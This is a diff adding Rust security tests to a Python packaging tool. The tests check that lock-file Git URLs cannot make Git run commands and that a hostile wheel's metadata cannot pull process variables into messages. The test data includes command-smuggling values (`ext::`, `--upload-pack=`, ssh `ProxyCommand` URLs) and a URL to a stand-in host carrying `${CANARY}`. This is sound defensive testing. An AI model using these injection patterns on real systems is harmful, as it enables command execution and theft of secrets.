@@ -176,6 +176,32 @@ fn a_lock_file_cannot_name_files_outside_the_cache() {
     }
 }
 
+/// Git runs what an `ext::` URL says, unless told not to, as it is by default.
+#[test]
+fn a_lock_file_cannot_have_git_run_commands() {
+    let outside = tempfile::tempdir().unwrap();
+    let mark = outside.path().join("ran");
+    let commit = "0123456789".repeat(4);
+    for url in [
+        format!("ext::touch {}", mark.display()),
+        format!("--upload-pack=touch {}", mark.display()),
+        format!("ssh://-oProxyCommand=touch%20{}/x", mark.display()),
+    ] {
+        let package = format!(
+            "[[packages]]\nname = 'a'\nvcs = {{ type = 'git', url = '{url}', commit-id = '{commit}' }}\n"
+        );
+        let wheels = tempfile::tempdir().unwrap();
+        write_wheels(wheels.path(), 0);
+        let project = locked_project(&wheels.path().join("wheels"));
+        let path = project.path().join("pylock.toml");
+        let own = std::fs::read_to_string(&path).unwrap();
+        std::fs::write(&path, own + &package).unwrap();
+        let text = refusal(project.path(), &["deps", ".", "out"], &[]);
+        assert!(text.contains("could not get `a` from its Git repository"), "{text}");
+        assert!(!mark.exists(), "{url}");
+    }
+}
+
 #[test]
 fn event_payloads_of_absurd_size_are_refused() {
     let project = project_tree(&[("dagster_cloud.yaml", LOCATIONS)]);
@@ -305,6 +331,21 @@ fn hostile_wheels_are_refused_by_name() {
         assert!(text.contains("evil-1-py3-none-any.whl") && text.contains(reason), "{reason}: {text}");
         assert!(!project.path().join("out").read_dir().is_ok_and(|mut files| files.next().is_some()));
     }
+}
+
+/// The parser of requirements puts variables of the process into URLs, and messages show them.
+#[test]
+fn a_wheel_cannot_ask_for_the_variables_of_the_process() {
+    let dir = tempfile::tempdir().unwrap();
+    write_wheels(dir.path(), 0);
+    let metadata = b"Metadata-Version: 2.1\nName: evil\nVersion: 1\nRequires-Dist: nowhere @ https://h.example/${CANARY}\n";
+    evil_wheel(&dir.path().join("wheels"), &[("evil-1.dist-info/METADATA", metadata)]);
+    let project = locked_project(&dir.path().join("wheels"));
+    let cache = dir.path().join("cache");
+    let env = [("PEXPRESS_CACHE_DIR", cache.to_str().unwrap()), ("CANARY", "the-token-of-production")];
+    let text = refusal(project.path(), &["deps", ".", "out"], &env);
+    assert!(text.contains("evil==1 requires `nowhere") && text.contains("${CANARY}"), "{text}");
+    assert!(!text.contains("the-token-of-production"), "{text}");
 }
 
 #[test]
